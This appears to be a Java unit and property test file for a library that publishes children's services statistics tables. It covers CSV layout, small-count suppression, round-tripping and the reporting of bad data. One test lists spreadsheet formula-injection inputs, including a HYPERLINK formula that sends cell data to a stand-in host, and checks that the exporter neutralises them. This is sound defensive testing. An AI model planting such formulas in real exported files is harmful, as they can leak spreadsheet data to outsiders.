package org.childrensservices.stats.publish;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import com.google.common.collect.ImmutableList;
import com.google.common.collect.ImmutableSet;
import de.siegmar.fastcsv.reader.CsvReader;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.childrensservices.core.place.LocalAuthority;
import org.childrensservices.core.place.LondonPart;
import org.childrensservices.core.place.Region;
import org.childrensservices.core.time.AcademicYear;
import org.childrensservices.core.time.FinancialYear;
import org.childrensservices.core.time.ReportingYear;
import org.childrensservices.core.value.Finding;
import org.childrensservices.core.value.ReasonCode;
import org.childrensservices.stats.measure.Cell;
import org.childrensservices.stats.measure.PublishedSymbol;
import org.childrensservices.stats.measure.Rounding;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The table that leaves: written, read back, and asked what it discloses. */
class PublicationTableTest {

    private static final Suppression UP_TO_5 = Suppression.upTo(5);
    private static final TablePeriod YEAR = TablePeriod.of(ReportingYear.ending(2024));
    private static final Area WESTMINSTER =
            Area.of(LocalAuthority.ofDfeNumber("213").orElseThrow());

    @TempDir
    private Path folder;

    @Test
    void isWrittenInTheColumnsOfTheDepartment() {
        PublicationTable table = PublicationTable.of("number", "rate_per_10000")
                .by("cla_group")
                .add(YEAR, Area.england(), List.of("Looked after"), Cell.of(83_630), Cell.parse("70"))
                .add(YEAR, Area.of(LondonPart.INNER), List.of("Looked after"), Cell.of(4_120), Cell.parse("56"))
                .add(
                        YEAR,
                        WESTMINSTER,
                        List.of("Looked after"),
                        Cell.of(PublishedSymbol.CONFIDENTIAL),
                        Cell.parse("-1.5"))
                .build();
        assertThat(table.toCsv())
                .isEqualTo("time_period,time_identifier,geographic_level,country_code,country_name,region_code,"
                        + "region_name,new_la_code,old_la_code,la_name,cla_group,number,rate_per_10000\n"
                        + "2024,Reporting year,National,E92000001,England,,,,,,Looked after,83630,70\n"
                        + "2024,Reporting year,Regional,E92000001,England,E13000001,Inner London,,,,"
                        + "Looked after,4120,56\n"
                        + "2024,Reporting year,Local authority,E92000001,England,E12000007,London,E09000033,213,"
                        + "Westminster,Looked after,c,-1.5\n");
        assertThat(table.toMarkdown()).isEqualTo("""
                        | period | area | cla_group | number | rate_per_10000 |
                        | --- | --- | --- | --: | --: |
                        | 2024 | England | Looked after | 83630 | 70 |
                        | 2024 | Inner London | Looked after | 4120 | 56 |
                        | 2024 | Westminster | Looked after | c | -1.5 |
                        """);
        assertThat(table).hasToString("3 rows of [number, rate_per_10000] by [cla_group]");
        assertThat(table.cell(table.rows().get(2), "number")).hasToString("c");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> table.cell(table.rows().get(0), "percentage"))
                .withMessage("column must be one of [number, rate_per_10000]: 'percentage'");
    }

    /** Formulas of spreadsheets, in a category and in the name of a filter. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://example.org?\"&A1,\"see\")",
                "+44",
                "-3.2",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\uFF1D1+1",
                "'=1",
                "''=1"
            })
    void spreadsheetsExecuteNoText(String text) throws IOException {
        PublicationTable table = PublicationTable.of("number")
                .by(text)
                .add(YEAR, Area.england(), List.of(text), Cell.parse("-3.2"))
                .build();
        String csv = table.toCsv();
        try (var records = CsvReader.builder().ofCsvRecord(csv)) {
            assertThat(records.stream().flatMap(line -> line.getFields().stream()))
                    .contains("-3.2")
                    .filteredOn(field -> !field.equals("-3.2"))
                    .noneMatch(field -> field.matches("(?s)[=+\\-@\\t\\r\\n\uFF1D].*"));
        }
        assertThat(PublicationTable.parse("t.csv", csv, ImmutableSet.of("number"))
                        .table())
                .isEqualTo(table);
    }

    @Test
    void apostropheOfANameIsLeftAlone() {
        assertThat(PublicationTable.of("number")
                        .by("name")
                        .add(YEAR, Area.england(), List.of("'s-Gravenhage"), Cell.of(1))
                        .build()
                        .toCsv())
                .contains(",'s-Gravenhage,");
    }

    @Provide
    Arbitrary<PublicationTable> tables() {
        Arbitrary<String> texts = Arbitraries.strings()
                .withChars("ab ,;\"'=+-@\t\n|\u00e9\uFF1D9")
                .ofMaxLength(6);
        Arbitrary<Area> areas = Arbitraries.of(Stream.of(
                        LocalAuthority.england().stream().map(Area::of),
                        Stream.of(Region.values()).map(Area::of),
                        Stream.of(LondonPart.values()).map(Area::of),
                        Stream.of(Area.england()))
                .flatMap(a -> a)
                .toList());
        Arbitrary<Cell> cells = Arbitraries.oneOf(
                Arbitraries.of(PublishedSymbol.values()).map(Cell::of),
                Arbitraries.bigDecimals()
                        .between(new BigDecimal("-1000"), new BigDecimal("90000"))
                        .ofScale(1)
                        .map(Cell::of),
                Arbitraries.longs().between(0, 90_000).map(Cell::of));
        Arbitrary<TablePeriod> periods = Arbitraries.of(
                YEAR, TablePeriod.of(AcademicYear.ending(2000)), TablePeriod.of(FinancialYear.starting(2023)));
        Arbitrary<PublicationRow> rows = Combinators.combine(
                        periods, areas, texts.list().ofSize(2), cells.list().ofSize(2))
                .as((period, area, categories, values) -> new PublicationRow(
                        period, area, ImmutableList.copyOf(categories), ImmutableList.copyOf(values)));
        return rows.list()
                .ofMaxSize(6)
                .map(all -> new PublicationTable(
                        ImmutableList.of("age", "=sex"),
                        ImmutableList.of("number", "percentage"),
                        ImmutableList.copyOf(all)));
    }

    @Property(tries = 300)
    void whatIsWrittenIsReadBackEqual(@ForAll("tables") PublicationTable table) {
        TableReading reading = PublicationTable.parse("t.csv", table.toCsv(), ImmutableSet.of("number", "percentage"));
        assertThat(reading.table()).isEqualTo(table);
        assertThat(reading.kept()).isEmpty();
        assertThat(reading.findings()).allMatch(finding -> finding.rule().equals("table.row_twice"));
    }

    @Test
    void filesBeginWithOrWithoutAByteOrderMark() throws IOException {
        PublicationTable table = PublicationTable.of("number")
                .add(TablePeriod.of(AcademicYear.ending(2025)), WESTMINSTER, Cell.parse("low"))
                .build();
        Path file = folder.resolve("absence.csv");
        table.write(file);
        assertThat(PublicationTable.read(file, ImmutableSet.of("number")).table())
                .isEqualTo(table);
        Files.writeString(file, "\uFEFF" + table.toCsv().replace("\n", "\r\n"));
        assertThat(PublicationTable.read(file, ImmutableSet.of("number")))
                .satisfies(reading -> assertThat(reading.table()).isEqualTo(table))
                .satisfies(reading -> assertThat(reading.findings()).isEmpty());
        Files.write(
                file, table.toCsv().replace("Westminster", "Westminst\u00e9r").getBytes(StandardCharsets.ISO_8859_1));
        assertThat(PublicationTable.read(file, ImmutableSet.of("number"))
                        .table()
                        .rows())
                .hasSize(1);
    }

    /** Two authorities that report as one, an unknown level, an old symbol, an empty cell, a short row. */
    @Test
    void badDataBecomesFindings() {
        String head = "time_period,time_identifier,geographic_level,country_code,country_name,region_code,region_name,"
                + "new_la_code,old_la_code,la_name,agency_fte\n";
        TableReading reading = PublicationTable.parse(
                "workforce.csv",
                head
                        + "2024,Reporting year,Local authority,E92000001,England,E12000007,London,,314 / 318,Kingston,:\n"
                        + "2024,Reporting year,Ward,E92000001,England,,,,,,1\n"
                        + "2024,Reporting year,National,E92000001,England,,,,,,\n"
                        + "202426,Academic year,National,E92000001,England,,,,,,1\n"
                        + "2024,Reporting year,National,E92000001,England\n",
                ImmutableSet.of("agency_fte"));
        assertThat(reading.table().rows()).hasSize(3);
        assertThat(reading.table().rows().get(0).area().oldLaCode()).isEqualTo("314 / 318");
        assertThat(reading.table().rows().get(0).cells()).containsExactly(Cell.parse("x"));
        assertThat(reading.kept()).hasSize(2);
        assertThat(reading.findings().stream().map(Finding::toString))
                .containsExactly(
                        "ERROR table.row_unreadable at workforce.csv:3: unknown geographic level: 'Ward'",
                        "ERROR table.cell_unreadable at workforce.csv:4:agency_fte: cell must be a number or a published"
                                + " symbol, and is taken as not available",
                        "ERROR table.row_unreadable at workforce.csv:5: the two years must follow each other: '202426'",
                        "ERROR table.row_length at workforce.csv:6: row must be as long as the headings: 5 and 11",
                        "ERROR table.cell_unreadable at workforce.csv:6:agency_fte: cell must be a number or a published"
                                + " symbol, and is taken as not available",
                        "ERROR table.row_twice at workforce.csv:6: period, area and categories stand twice");
        assertThat(PublicationTable.parse("empty.csv", "", ImmutableSet.of("number"))
                        .table()
                        .rows())
                .isEmpty();
        assertThat(PublicationTable.parse("other.csv", "a,b\n1,2\n", ImmutableSet.of("number")))
                .satisfies(other -> assertThat(other.findings()).hasSize(12))
                .satisfies(other -> assertThat(other.kept()).containsExactly(ImmutableList.of("1", "2")));
    }

    private static TableDraft placements() {
        return TableDraft.by("placement")
                .count(YEAR, WESTMINSTER, List.of("Foster care"), 140)
                .count(YEAR, WESTMINSTER, List.of("Children's home"), 41)
                .count(YEAR, WESTMINSTER, List.of("Secure unit"), 3)
                .count(YEAR, WESTMINSTER, List.of("Placed for adoption"), 7)
                .count(YEAR, WESTMINSTER, List.of("Mother and baby unit"), 0);
    }

    @Test
    void draftIsPublishedWithWhatProtectsIt() {
        PublicationTable table = placements().publish(PublicationRule.standard(), Rounding.WHOLE);
        assertThat(table.toMarkdown()).isEqualTo("""
                        | period | area | placement | number | percentage |
                        | --- | --- | --- | --: | --: |
                        | 2024 | Westminster | Foster care | 140 | 73 |
                        | 2024 | Westminster | Children's home | 41 | 21 |
                        | 2024 | Westminster | Secure unit | c | c |
                        | 2024 | Westminster | Placed for adoption | c | c |
                        | 2024 | Westminster | Mother and baby unit | 0 | 0 |
                        | 2024 | Westminster | Total | 191 | 100 |
                        """);
        assertThat(table.disclosures("number", UP_TO_5).orElseThrow()).isEmpty();
    }

    @Test
    void draftOfAHiddenTotalKeepsItsTrueZeros() {
        PublicationTable table = TableDraft.by("placement")
                .count(YEAR, WESTMINSTER, List.of("Foster care"), 2)
                .count(YEAR, WESTMINSTER, List.of("Secure unit"), 0)
                .count(YEAR, Area.england(), List.of("Foster care"), 0)
                .publish(PublicationRule.standard(), Rounding.WHOLE);
        assertThat(table.rows().stream().map(row -> row.cells().toString()))
                .containsExactly("[c, c]", "[0, 0]", "[c, c]", "[0, z]", "[0, z]", "[0, z]");
        assertThat(TableDraft.by("placement")
                        .count(YEAR, Area.england(), List.of("Foster care"), 99_996)
                        .count(YEAR, Area.england(), List.of("Secure unit"), 4)
                        .publish(PublicationRule.aggregates(), Rounding.WHOLE)
                        .rows()
                        .stream()
                        .map(row -> row.cells().toString()))
                .containsExactly("[100000, 100]", "[0, k]", "[100000, 100]");
    }

    /** Each cell by itself, as one would write a table by hand. */
    @Test
    void tableSaysWhatItDiscloses() {
        PublicationRule rule = PublicationRule.standard();
        PublicationTable byHand = PublicationTable.of("number")
                .by("placement")
                .add(YEAR, WESTMINSTER, List.of("Foster care"), rule.count(140))
                .add(YEAR, WESTMINSTER, List.of("Secure unit"), rule.count(3))
                .add(YEAR, WESTMINSTER, List.of("Total"), rule.count(143))
                .build();
        assertThat(byHand.disclosures("number", UP_TO_5).orElseThrow())
                .singleElement()
                .hasToString("2024, Westminster, Secure unit: is 3");
        PublicationTable untotalled = PublicationTable.of("number")
                .by("placement")
                .add(YEAR, WESTMINSTER, List.of("Foster care"), rule.count(140))
                .add(YEAR, WESTMINSTER, List.of("Secure unit"), rule.count(3))
                .build();
        assertThat(untotalled.disclosures("number", UP_TO_5).orElseThrow()).isEmpty();
        assertThat(PublicationTable.of("number")
                        .build()
                        .disclosures("number", UP_TO_5)
                        .toReason()
                        .orElseThrow()
                        .code())
                .isEqualTo(ReasonCode.NOT_APPLICABLE);
        assertThat(PublicationTable.of("number")
                        .by("placement")
                        .add(YEAR, WESTMINSTER, List.of("Foster care"), Cell.of(2))
                        .add(YEAR, WESTMINSTER, List.of("Total"), Cell.of(3))
                        .build()
                        .disclosures("number", UP_TO_5)
                        .toReason()
                        .orElseThrow()
                        .code())
                .isEqualTo(ReasonCode.NO_SOLUTION);
        assertThat(PublicationTable.of("number")
                        .by("placement")
                        .add(YEAR, WESTMINSTER, List.of("Total"), Cell.of(3))
                        .build()
                        .disclosures("number", UP_TO_5)
                        .orElseThrow())
                .isEmpty();
    }

    @Provide
    Arbitrary<List<Long>> counts() {
        return Arbitraries.longs().between(0, 30).list().ofSize(9);
    }

    /** Two filters of three categories each. */
    @Property(tries = 150)
    void draftsAreProtectedInBothFilters(@ForAll("counts") List<Long> counts) {
        TableDraft draft = TableDraft.by("sex", "age");
        for (int i = 0; i < counts.size(); i++) {
            draft.count(YEAR, WESTMINSTER, List.of("s" + i / 3, "a" + i % 3), counts.get(i));
        }
        PublicationTable table = draft.publish(PublicationRule.standard(), Rounding.ONE_DECIMAL);
        assertThat(table.rows()).hasSize(16);
        assertThat(table.disclosures("number", UP_TO_5).orElseThrow()).isEmpty();
        assertThat(table.rows()).allSatisfy(row -> {
            Cell number = row.cells().get(0);
            Cell percentage = row.cells().get(1);
            if (number instanceof Cell.Symbol) {
                assertThat(percentage).isEqualTo(number).hasToString("c");
            } else {
                assertThat(UP_TO_5.hides(((Cell.Figure) number).value().longValueExact()))
                        .isFalse();
            }
        });
    }

    @Test
    void oneCategoryOfAFilterIsATableToo() {
        PublicationTable table = TableDraft.by("sex", "age")
                .count(YEAR, WESTMINSTER, List.of("Male", "0 to 4"), 20)
                .count(YEAR, WESTMINSTER, List.of("Male", "5 to 9"), 30)
                .publish(PublicationRule.standard(), Rounding.WHOLE);
        assertThat(table.rows()).hasSize(3);
        assertThat(table.disclosures("number", UP_TO_5).orElseThrow()).isEmpty();
    }

    @Test
    void draftRefusesWhatItComputes() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> placements().count(YEAR, WESTMINSTER, List.of("Total"), 3))
                .withMessage("totals are computed: [Total]");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> placements().count(YEAR, WESTMINSTER, List.of("a", "b"), 3))
                .withMessage("a category for each filter: [a, b] of [placement]");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> placements().count(YEAR, WESTMINSTER, List.of("a"), -3))
                .withMessage("count must not be negative: -3");
    }

    @Test
    void tableRefusesWhatIsNoTable() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> PublicationTable.of("la_name").build())
                .withMessage("column must have a name of its own: 'la_name'");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> PublicationTable.of(" ").build())
                .withMessage("column must have a name: ' '");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> PublicationTable.of().build())
                .withMessage("table must have an indicator");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> PublicationTable.of("number")
                        .add(YEAR, Area.england(), List.of("a"), Cell.of(1))
                        .build())
                .withMessage("row must have a category for each filter: [a] of []");
        assertThatIllegalArgumentException()
                .isThrownBy(() ->
                        PublicationTable.of("number").add(YEAR, Area.england()).build())
                .withMessage("row must have a cell for each indicator: [] of [number]");
    }
}
